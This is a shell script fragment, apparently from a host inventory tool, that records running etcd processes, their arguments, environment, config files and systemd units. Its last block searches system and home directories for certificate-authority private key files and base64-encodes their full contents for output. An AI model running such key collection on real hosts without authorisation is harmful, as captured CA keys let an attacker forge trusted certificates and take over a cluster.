# The etcd that runs on this host, whoever set it up: how it was started, and by which unit; and where a CA's key may lie.
seen=
for each in /proc/[0-9]*; do
    exe=$(readlink "$each/exe" 2>/dev/null) || continue
    case ${exe% (deleted)} in */etcd) ;; *) continue ;; esac
    pid=${each#/proc/}
    service=$(sed -n 's|.*/\([^/]*\.service\)\(/.*\)\{0,1\}$|\1|p' "$each/cgroup" | sed -n 1p)
    [ "$(sed -n 's/^NSpid:.*\t//p' "$each/status")" = "$pid" ] || service= # in a container, which something else manages
    put process "$pid$tab$exe$tab$(stat -c %U "$each")$tab$(readlink "$each/cwd")$tab$service"
    put "argv$tab$pid" "$(base64 -w0 <"$each/cmdline")"
    put "environ$tab$pid" "$(tr '\0' '\n' <"$each/environ" | sed -n '/^ETCD/p; s/^\([A-Za-z_][A-Za-z0-9_]*\)=.*/\1/p' | base64 -w0)" # of others the name alone
    config=$(tr '\0' '\n' <"$each/cmdline" | sed -n 's/^--\{0,1\}config-file=//p; /^--\{0,1\}config-file$/{ n; p; }' | sed -n '$p')
    [ -n "$config" ] || config=$(tr '\0' '\n' <"$each/environ" | sed -n 's/^ETCD_CONFIG_FILE=//p')
    [ -z "$config" ] || [ ! -f "$each/cwd/$config" ] || config=$each/cwd/$config
    [ -z "$config" ] || put "config$tab$pid" "$(base64 -w0 <"$config" 2>/dev/null)"
    if [ -n "$service" ]; then
        systemctl show "$service" --property=MainPID,FragmentPath,DropInPaths,Type | while IFS='=' read -r key value; do
            put "unit$tab$pid$tab$key" "$value"
        done
        put "text$tab$pid" "$(systemctl cat "$service" 2>/dev/null | base64 -w0)"
    fi
    seen="$seen ${exe% (deleted)}"
done
etcdctl=$(command -v etcdctl)
for exe in $seen; do
    [ -n "$etcdctl" ] || [ ! -x "${exe%/etcd}/etcdctl" ] || etcdctl=${exe%/etcd}/etcdctl
done
put etcdctl "$etcdctl"
# By the names that cfssl, openssl's examples, easyrsa and kubeadm give it.
timeout 10 find /root /etc /home /opt /srv /usr/local -xdev -maxdepth 7 -type f -size -33 \
    \( -name '*ca*key*.pem' -o -name '*ca.key' -o -name '*ca*key.key' -o -name 'ca-*.key' -o -name 'rootCA.key' \) \
    ! -path '*/site-packages/*' -print 2>/dev/null | sed -n 1,20p | while read -r path; do
    ! grep -q 'PRIVATE KEY' "$path" || put "key$tab$path" "$(base64 -w0 <"$path")"
done
